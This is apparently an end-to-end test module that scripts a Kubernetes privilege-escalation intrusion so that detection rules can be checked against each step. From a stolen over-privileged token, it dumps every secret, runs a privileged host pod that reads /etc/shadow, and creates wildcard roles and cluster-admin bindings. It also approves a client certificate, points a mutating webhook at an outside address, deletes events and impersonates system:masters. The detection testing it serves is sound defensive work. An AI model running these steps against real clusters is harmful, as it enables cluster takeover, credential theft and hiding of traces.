"""A scripted intrusion with real clients, step by step, and what the rules must find of each step.

The attacker begins with the token of a web pod's account that was given too much, and becomes administrator. `STEPS`
names each step, the function that does it and the rules of which at least one must find it. Importable by the
end-to-end tests: `Intruder(plane, namespace)` prepares the foothold, `run_all` does every step in order.
"""

from __future__ import annotations

import base64
import json
import subprocess
from collections.abc import Callable

from tests.cluster.everyday import Object, Person, container
from tests.controlplane.running import ControlPlane

ACCOUNT = "web"
GROUP = "rbac.authorization.k8s.io"


class Intruder:
    """The stolen account, and what it leaves behind under the names here."""

    def __init__(self, plane: ControlPlane, namespace: str) -> None:
        self.plane = plane
        self.namespace = namespace
        self.role = f"debug-{namespace}"
        self.binding = f"system-health-{namespace}"
        self.certificate = f"backup-{namespace}"
        self.webhook = f"metrics-{namespace}"
        self.user = f"system:serviceaccount:{namespace}:{ACCOUNT}"
        plane.kubectl("-n", namespace, "create", "serviceaccount", ACCOUNT)
        plane.kubectl(
            *("create", "clusterrolebinding", f"too-much-{namespace}", "--clusterrole=cluster-admin"),
            f"--serviceaccount={namespace}:{ACCOUNT}",
        )
        token = plane.kubectl("-n", namespace, "create", "token", ACCOUNT).stdout.strip()
        self.stolen = Person(plane, {"token": token}, f"intruder-{namespace}")
        self.kubectl = self.stolen.kubectl
        """As the stolen account."""

    def anonymously(self, path: str) -> None:
        """A request without any credential."""
        subprocess.run(["curl", "-sk", self.plane.url + path], check=True, capture_output=True)


def lists_own_rights(one: Intruder) -> None:
    one.kubectl("auth", "can-i", "--list")


def dumps_all_secrets(one: Intruder) -> None:
    one.kubectl("get", "secrets", "-A", "-o", "yaml")


def makes_privileged_host_pod(one: Intruder) -> None:
    spec: Object = {
        "hostPID": True,
        "hostNetwork": True,
        "containers": [container("shell", "busybox", securityContext={"privileged": True}, command=["sleep", "1d"])],
        "volumes": [{"name": "host", "hostPath": {"path": "/"}}],
    }
    meta = {"name": "node-tuner", "namespace": one.namespace}
    one.kubectl("apply", "-f", "-", stdin={"apiVersion": "v1", "kind": "Pod", "metadata": meta, "spec": spec})
    one.kubectl("-n", one.namespace, "wait", "--for=condition=Ready", "pod/node-tuner", "--timeout=40s")


def runs_a_command(one: Intruder) -> None:
    one.kubectl("-n", one.namespace, "exec", "node-tuner", "--", "cat", "/etc/shadow", check=False)


def mints_controller_token(one: Intruder) -> None:
    one.kubectl("-n", "kube-system", "create", "token", "clusterrole-aggregation-controller")


def makes_wildcard_role(one: Intruder) -> None:
    one.kubectl("create", "clusterrole", one.role, "--verb=*", "--resource=*.*")


def binds_cluster_admin(one: Intruder) -> None:
    account = f"--serviceaccount={one.namespace}:default"
    one.kubectl("create", "clusterrolebinding", one.binding, "--clusterrole=cluster-admin", account)


def approves_client_certificate(one: Intruder) -> None:
    make = ["openssl", "req", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes", "-keyout", "/dev/null"]
    request = subprocess.run([*make, "-subj", "/O=ops/CN=backup-operator"], check=True, capture_output=True).stdout
    body = {
        "apiVersion": "certificates.k8s.io/v1",
        "kind": "CertificateSigningRequest",
        "metadata": {"name": one.certificate},
        "spec": {
            "request": base64.b64encode(request).decode(),
            "signerName": "kubernetes.io/kube-apiserver-client",
            "usages": ["client auth"],
        },
    }
    one.kubectl("apply", "-f", "-", stdin=body)
    one.kubectl("certificate", "approve", one.certificate)


def makes_cron_job(one: Intruder) -> None:
    job = ("create", "cronjob", "log-rotate", "--image=busybox", "--schedule=*/5 * * * *", "--", "sh", "-c", "true")
    one.kubectl("-n", one.namespace, *job)


def sends_webhook_outside(one: Intruder) -> None:
    hook = {
        "name": "m.example.org",
        "clientConfig": {"url": "https://203.0.113.7/mutate"},
        "rules": [{"apiGroups": [""], "apiVersions": ["v1"], "operations": ["CREATE"], "resources": ["limitranges"]}],
        "failurePolicy": "Ignore",
        "sideEffects": "None",
        "admissionReviewVersions": ["v1"],
    }
    meta = {"name": one.webhook}
    kind = {"apiVersion": "admissionregistration.k8s.io/v1", "kind": "MutatingWebhookConfiguration"}
    one.kubectl("apply", "-f", "-", stdin={**kind, "metadata": meta, "webhooks": [hook]})


def deletes_events(one: Intruder) -> None:
    one.kubectl("-n", one.namespace, "delete", "events", "--all", "--wait=false")


def reaches_kubelet(one: Intruder) -> None:
    one.kubectl("get", "--raw", "/api/v1/nodes/node-0/proxy/pods", check=False)


def opens_node_port(one: Intruder) -> None:
    service = ("create", "service", "nodeport", "status", "--tcp=8080:80")
    one.kubectl("-n", one.namespace, *service)


def impersonates(one: Intruder) -> None:
    one.kubectl("get", "pods", "-A", "--as=ops-admin", "--as-group=system:masters")


def probes_anonymously(one: Intruder) -> None:
    for path in ("/api", "/apis", "/api/v1/pods", "/api/v1/secrets", "/metrics", "/api/v1/nodes", "/logs"):
        one.anonymously(path)


STEPS: dict[str, tuple[Callable[[Intruder], None], frozenset[str]]] = {
    "own rights listed": (lists_own_rights, frozenset({"K8S-ACCOUNT-OWN-RIGHTS"})),
    "all secrets dumped": (dumps_all_secrets, frozenset({"K8S-SECRETS-DUMP"})),
    "privileged host pod": (
        makes_privileged_host_pod,
        frozenset({"K8S-PRIVILEGED", "K8S-HOSTPATH", "K8S-HOST-PID", "K8S-HOST-NETWORK"}),
    ),
    "exec": (runs_a_command, frozenset({"K8S-EXEC-POD", "K8S-EXEC-CREDENTIALS"})),
    "controller token minted": (mints_controller_token, frozenset({"K8S-CONTROLLER-TOKEN"})),
    "wildcard role": (makes_wildcard_role, frozenset({"K8S-ROLE-WILDCARD"})),
    "cluster-admin bound": (binds_cluster_admin, frozenset({"K8S-CLUSTER-ADMIN-BOUND"})),
    "client certificate approved": (approves_client_certificate, frozenset({"K8S-CSR-CREATED", "K8S-CSR-APPROVED"})),
    "cron job": (makes_cron_job, frozenset({"K8S-CRONJOB"})),
    "webhook to an outside address": (sends_webhook_outside, frozenset({"K8S-WEBHOOK-OUTSIDE"})),
    "events deleted": (deletes_events, frozenset({"K8S-EVENTS-DELETED"})),
    "nodes/proxy": (reaches_kubelet, frozenset({"K8S-NODES-PROXY"})),
    "node port": (opens_node_port, frozenset({"K8S-NODEPORT"})),
    "impersonation": (impersonates, frozenset({"K8S-IMPERSONATE-PRIVILEGED"})),
    "anonymous probing": (probes_anonymously, frozenset({"K8S-ANON-PROBING"})),
}
"""Every step, in the order of an attack, and the rules that must all find it."""


def run_all(one: Intruder) -> None:
    """The whole intrusion."""
    for act, _ in STEPS.values():
        act(one)


def clean_up(one: Intruder) -> None:
    """Takes away what is not in the namespace, for the tests that come later."""
    delete = ("delete", "--ignore-not-found", "--wait=false")
    bindings = (one.binding, f"too-much-{one.namespace}")
    one.plane.kubectl(*delete, "clusterrolebinding", *bindings)
    one.plane.kubectl(*delete, "clusterrole", one.role)
    one.plane.kubectl(*delete, "csr", one.certificate)
    one.plane.kubectl(*delete, "mutatingwebhookconfiguration", one.webhook)


def described(one: Intruder) -> str:
    """Where and as whom, for messages of failing tests."""
    return json.dumps({"namespace": one.namespace, "user": one.user})
